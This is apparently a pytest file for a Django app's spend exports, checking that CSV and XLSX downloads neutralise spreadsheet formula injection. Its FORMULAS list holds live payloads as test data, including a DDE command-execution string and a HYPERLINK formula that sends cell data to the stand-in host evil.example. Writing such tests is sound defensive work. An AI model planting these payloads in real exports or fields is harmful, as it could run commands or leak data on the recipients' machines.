"""What spreadsheets open: a text that somebody typed is a text there, and a negative amount still a number."""

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.utils import timezone
from openpyxl import load_workbook

from generations.models import Generation, Status
from generations.services import drafts
from projects.models import Project, Role
from projects.money import spend
from tests import factories
from tests.pipeline import ENDPOINT
from tests.projects.api.client import API, client_of

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '";=1+1;"',
    "=1+1\x00",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "%0A-1",
    "|=1+1",
]
STARTS = "=+-@＝＋－＠\t\r\n"
TABLES = [
    "entries",
    *(f"breakdown.{by}" for by in ("day", "endpoint", "member", "tag", "status", "project")),
]


@pytest.fixture
def owner(db: None) -> User:
    return factories.UserFactory(username="@olive", is_superuser=True, is_staff=True)


@pytest.fixture
def books(owner: User) -> list[Project]:
    """Each hostile text as the name of a project, of a member, of a tag, and as a reason; spent, refunded and adjusted."""
    projects = []
    for number, text in enumerate(FORMULAS):
        # PostgreSQL takes no NUL; nothing that comes through a form holds one either.
        name = text.replace("\x00", "")
        project = factories.ProjectFactory(name=f"{name}{number}" if number > 10 else name, created_by=owner)
        factories.budget(project, 100_000_000)
        member = factories.member(project, Role.EDITOR, username=f"{name}{number}")
        image = factories.source_image(project, member)
        image.tags = [name]
        image.save()
        inputs = {"image": str(image.pk), "prompt": name, "duration": 3}
        made = drafts.create(project, endpoint=ENDPOINT, inputs=inputs, by=member)
        Generation.objects.filter(pk=made.pk).update(
            tags=[name], status=Status.COMPLETED, prediction_id=f"={number}", submitted_at=timezone.now()
        )
        held = spend.reserve(
            project=project,
            user=member,
            reference=made.pk,
            endpoint=ENDPOINT,
            amount=2_000_000,
            key=f"reserve:{made.pk}",
            by=member,
        )
        spend.charge(held, amount=2_000_000, key=f"charge:{made.pk}", reason=name, by=None)
        projects.append(project)
    return projects


def cells(name: str, owner: User) -> Iterable[Any]:
    """Every cell below the header, as a program reads the file."""
    api = client_of(owner)
    base, _, rest = name.partition(".")
    by, _, kind = rest.rpartition(".")
    answer = api.get(f"{API}/spend/{base}.{kind}" + (f"?by={by}" if by else ""))
    assert answer.status_code == 200, name
    content = b"".join(answer.streaming_content)
    if kind == "csv":
        rows: Any = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [cell for row in list(rows)[1:] for cell in row]
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows(min_row=2) for cell in row]


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("table", [*TABLES, "focus"])
def test_csv_runs_no_formula(books: list[Project], owner: User, table: str) -> None:
    begin_like_one = [
        cell
        for cell in cells(f"{table}.csv", owner)
        # What a spreadsheet strips before it looks.
        if cell.strip(" \u00a0\ufeff\u200b").startswith(tuple(STARTS)) and not is_number(cell)
    ]

    assert begin_like_one == []


@pytest.mark.parametrize("table", TABLES)
def test_xlsx_runs_no_formula(books: list[Project], owner: User, table: str) -> None:
    found = list(cells(f"{table}.xlsx", owner))

    assert [cell.value for cell in found if cell.data_type == "f"] == []
    assert [
        cell.value
        for cell in found
        if isinstance(cell.value, str) and cell.value.strip(" \u00a0\ufeff\u200b").startswith(tuple(STARTS))
    ] == []


def test_amounts_below_zero_stay_numbers(books: list[Project], owner: User) -> None:
    held = [cell for cell in cells("entries.csv", owner) if cell.startswith("-")]
    assert set(held) == {"-2.00"}

    numbers = [cell.value for cell in cells("entries.xlsx", owner) if isinstance(cell.value, int | float)]
    assert -2 in numbers


def test_the_texts_are_whole_behind_their_apostrophe(books: list[Project], owner: User) -> None:
    names = {cell for cell in cells("entries.csv", owner) if "cmd|" in cell}

    assert names == {"'=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A00"}


def test_the_name_of_the_file_is_harmless(books: list[Project], owner: User) -> None:
    api = client_of(owner)
    for project in books:
        answer = api.get(f"{API}/projects/{project.pk}/spend/entries.csv")
        header = answer["Content-Disposition"]
        assert header.startswith('attachment; filename="')
        name = header.removeprefix('attachment; filename="').removesuffix('"')
        assert name.replace("-", "").replace(".", "").replace("_", "").isalnum(), header
